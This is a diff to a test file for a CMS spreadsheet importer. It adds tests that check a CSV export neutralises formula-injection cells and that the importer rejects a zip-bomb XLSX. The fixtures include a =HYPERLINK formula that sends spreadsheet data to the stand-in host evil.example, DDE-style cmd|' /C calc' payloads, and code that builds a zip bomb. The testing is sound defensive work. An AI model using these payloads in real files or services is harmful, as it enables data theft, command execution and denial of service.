@@ -1,12 +1,13 @@
-// A hostile file on the import page (and `npm run import`), without Strapi: the page hands the upload
-// to the same readRows.
+// A hostile file on the import page (and `npm run import`), and hostile cells in its export, without
+// Strapi: the page hands the upload to the same readRows, and its CSV export is templateCsv.
 //  - An XLSX is a zip, and ExcelJS inflates every entry whole into memory: a zip bomb within the
 //    5 MB upload limit (deflate packs zeros ~1,000:1) took the CMS 16 s and 1.1 GB for 300 MB
 //    unpacked, so one 5 MB upload could take it down.
+//  - A cell a department wrote as `=HYPERLINK(…)` is run by Excel when the office opens the CSV export.
 import { crc32, deflateRawSync } from 'node:zlib';
 import JSZip from 'jszip';
 import { describe, expect, it } from 'vitest';
-import { COLUMNS, readRows, templateWorkbook } from '../../cms/src/import/index.ts';
+import { COLUMNS, readRows, templateCsv, templateWorkbook, validateRows } from '../../cms/src/import/index.ts';
 
 interface ZipEntry {
   name: string;
@@ -72,8 +73,8 @@ describe('an XLSX that unpacks to far more than it weighs', () => {
     expect(bomb.length).toBeLessThan(512 * 1024); // a tenth of the page's 5 MB upload limit
     const started = Date.now();
     await expect(readRows(bomb, 'xlsx')).rejects.toMatchObject({ code: 'FILE_TOO_LARGE', message: expect.stringContaining('解压后超过') });
-    // Inflating up to the limit (64 MB) only, not the 70 MB, and never parsing it.
-    expect(Date.now() - started).toBeLessThan(15_000);
+    // Inflating up to the limit (64 MB) only, never parsing it (a loaded 2-core box: 1–12 s).
+    expect(Date.now() - started).toBeLessThan(45_000);
   });
 
   it('a real XLSX written by hand in the same way still reads (the control)', async () => {
@@ -83,5 +84,36 @@ describe('an XLSX that unpacks to far more than it weighs', () => {
     const read = await readRows(zipOf(entries), 'xlsx');
     expect(read.rows).toEqual([]);
     expect(read.columns.length).toBe(COLUMNS.length);
+  });
+});
+
+describe('cells that a spreadsheet would run, in the CSV export', () => {
+  const hostile = {
+    title: '=HYPERLINK("http://evil.example/?d="&A2,"点此申报")',
+    summary: '+cmd|\' /C calc\'!A0',
+    contact: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    keywords: '-2+3+cmd|\' /C calc\'!A0',
+    industries: '\t=1+1',
+  } as const;
+  const rows = [{ ...Object.fromEntries(COLUMNS.map((c) => [c.key, null])), itemCode: 'A-1', ...hostile }] as never;
+
+  it('exports each with a leading apostrophe, so Excel shows it as text', () => {
+    const csv = templateCsv(rows);
+    const record = csv.split('\r\n')[1]!;
+    // Worked out by hand: the apostrophe goes in front; a cell with a quote or comma is quoted as RFC 4180 says.
+    expect(record).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""点此申报"")"`);
+    expect(record).toContain(`'+cmd|' /C calc'!A0`);
+    expect(record).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(record).toContain(`'-2+3+cmd|' /C calc'!A0`);
+    expect(record).toContain(`'\t=1+1`);
+    for (const cell of record.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('reads back to what was stored, so export then import changes nothing', async () => {
+    const read = await readRows(Buffer.from(templateCsv(rows)), 'csv');
+    const values = validateRows(read.rows).valid[0]!.values as Record<string, unknown>;
+    expect(values).toMatchObject({ title: hostile.title, summary: hostile.summary, contact: hostile.contact });
+    expect(read.rows[0]!.cells.keywords).toBe(hostile.keywords);
+    expect(read.rows[0]!.cells.industries).toBe(hostile.industries);
   });
 });
